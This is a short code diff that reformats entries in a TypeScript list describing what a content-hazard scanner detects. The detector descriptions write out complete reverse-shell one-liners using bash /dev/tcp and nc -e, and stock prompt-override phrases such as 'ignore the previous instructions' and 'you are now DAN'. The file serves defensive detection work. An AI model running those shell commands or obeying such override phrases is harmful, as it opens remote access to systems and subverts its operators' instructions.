@@ -16,8 +16,14 @@ export interface HazardHit {
 /** What each family's detector looks for (documentation and tests). */
 export const HAZARD_DETECTORS: ReadonlyArray<{ family: string; what: string }> = [
   { family: 'malware', what: 'the EICAR test signature; complete reverse-shell one-liners (bash -i >& /dev/tcp/host/port 0>&1, nc -e /bin/sh host port)' },
-  { family: 'injection', what: 'imperative overrides (ignore/disregard/forget the previous instructions), "you are now DAN/in developer mode", "new system prompt:", chat-template system role markers' },
-  { family: 'credentials', what: 'combo lists (at least 5 email:password lines making up half the text) and password-hash dumps (3+ shadow-style user:$id$hash lines)' },
+  {
+    family: 'injection',
+    what: 'imperative overrides (ignore/disregard/forget the previous instructions), "you are now DAN/in developer mode", "new system prompt:", chat-template system role markers',
+  },
+  {
+    family: 'credentials',
+    what: 'combo lists (at least 5 email:password lines making up half the text) and password-hash dumps (3+ shadow-style user:$id$hash lines)',
+  },
   { family: 'fraud', what: 'card dumps: 3+ lines with a Luhn-valid card number followed by expiry and CVV' },
 ];
 
